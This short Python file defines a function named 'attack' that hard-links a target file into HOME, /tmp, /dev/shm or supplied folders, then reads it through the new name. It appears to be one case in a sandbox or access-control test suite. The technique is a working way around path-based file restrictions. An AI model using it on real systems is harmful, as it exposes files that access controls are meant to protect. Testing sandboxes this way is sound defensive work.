"""Give a file a second name in a folder that may be read, and open that."""

import os


def attack(path, folders):
    errors = []
    for folder in [*folders, os.environ.get("HOME", "/"), "/tmp", "/dev/shm"]:
        link = os.path.join(folder, f"link-{os.getpid()}")
        try:
            os.link(path, link)
        except OSError as error:
            errors.append(str(error))
            continue
        with open(link) as file:
            os.unlink(link)
            return file.read()
    return errors
